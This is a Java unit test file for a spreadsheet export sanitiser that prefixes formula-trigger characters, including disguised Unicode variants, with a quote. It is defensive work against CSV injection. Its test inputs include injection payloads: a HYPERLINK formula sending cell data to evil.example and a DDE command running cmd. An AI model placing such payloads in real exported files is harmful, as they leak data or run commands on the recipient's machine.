package dk.gennemsyn.platform.export;

import org.junit.jupiter.api.Test;

import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

class SpreadsheetTextTest {

    @Test
    void everyFormulaTriggerIsPrefixedWithAQuote() {
        assertThat(SpreadsheetText.neutralise("=1+2")).isEqualTo("'=1+2");
        assertThat(SpreadsheetText.neutralise("=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Klik\")"))
                .isEqualTo("'=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Klik\")");
        assertThat(SpreadsheetText.neutralise("+45 12 34 56 78")).isEqualTo("'+45 12 34 56 78");
        assertThat(SpreadsheetText.neutralise("-2+3+cmd|' /C calc'!A0")).isEqualTo("'-2+3+cmd|' /C calc'!A0");
        assertThat(SpreadsheetText.neutralise("@SUM(A1:A9)")).isEqualTo("'@SUM(A1:A9)");
        assertThat(SpreadsheetText.neutralise("\t=1+2")).isEqualTo("'\t=1+2");
        assertThat(SpreadsheetText.neutralise("\tindrykket")).isEqualTo("'\tindrykket");
        assertThat(SpreadsheetText.neutralise("\r=1+2")).isEqualTo("'\r=1+2");
        assertThat(SpreadsheetText.neutralise("\rlinje")).isEqualTo("'\rlinje");
        // Text that only looks like a number is still text.
        assertThat(SpreadsheetText.neutralise("-3")).isEqualTo("'-3");
        // The single sign alone.
        for (String s : List.of("=", "+", "-", "@", "\t", "\r")) {
            assertThat(SpreadsheetText.neutralise(s)).isEqualTo("'" + s);
        }
    }

    @Test
    void aTriggerAfterLeadingWhitespaceOrInvisibleCharactersOrInFullWidthIsPrefixedToo() {
        assertThat(SpreadsheetText.neutralise("  =1+2")).isEqualTo("'  =1+2");
        assertThat(SpreadsheetText.neutralise("\n=1+2")).isEqualTo("'\n=1+2");
        assertThat(SpreadsheetText.neutralise("\u00A0+1")).isEqualTo("'\u00A0+1");
        assertThat(SpreadsheetText.neutralise("\u200B@x")).isEqualTo("'\u200B@x");
        assertThat(SpreadsheetText.neutralise("\uFEFF-1")).isEqualTo("'\uFEFF-1");
        assertThat(SpreadsheetText.neutralise("\uFF1D1+2")).isEqualTo("'\uFF1D1+2");
        assertThat(SpreadsheetText.neutralise("\uFF0B1")).isEqualTo("'\uFF0B1");
        assertThat(SpreadsheetText.neutralise("\uFF0D1")).isEqualTo("'\uFF0D1");
        assertThat(SpreadsheetText.neutralise("\uFF20x")).isEqualTo("'\uFF20x");
    }

    @Test
    void harmlessTextIsUnchanged() {
        for (String s : List.of("Sag 1", "4 – God", "Børnefaglig undersøgelse", "1+2", "a=b", "x-y", "mail@example.dk",
                "   indrykket", "Æble, øl; å\"citat\"", "'=1+2", "–3 (tankestreg)", "\u22121", "3", "0,5", "#REF!", "%")) {
            assertThat(SpreadsheetText.neutralise(s)).as(s).isEqualTo(s);
            assertThat(SpreadsheetText.isNeutral(s)).as(s).isTrue();
        }
    }

    @Test
    void nullAndEmptyBecomeEmptyAndNeutralisingTwiceChangesNothing() {
        assertThat(SpreadsheetText.neutralise(null)).isEmpty();
        assertThat(SpreadsheetText.neutralise("")).isEmpty();
        assertThat(SpreadsheetText.isNeutral(null)).isTrue();
        assertThat(SpreadsheetText.isNeutral("=1")).isFalse();
        for (String s : List.of("=1+2", "\t@x", "  -1", "\uFF1D1")) {
            String once = SpreadsheetText.neutralise(s);
            assertThat(SpreadsheetText.neutralise(once)).isEqualTo(once);
            assertThat(SpreadsheetText.isNeutral(once)).isTrue();
        }
    }

    @Test
    void whitespaceOnlyIsUnchanged() {
        assertThat(SpreadsheetText.neutralise("   ")).isEqualTo("   ");
        assertThat(SpreadsheetText.neutralise("\n")).isEqualTo("\n");
        assertThat(SpreadsheetText.neutralise("\t")).isEqualTo("'\t");
    }
}
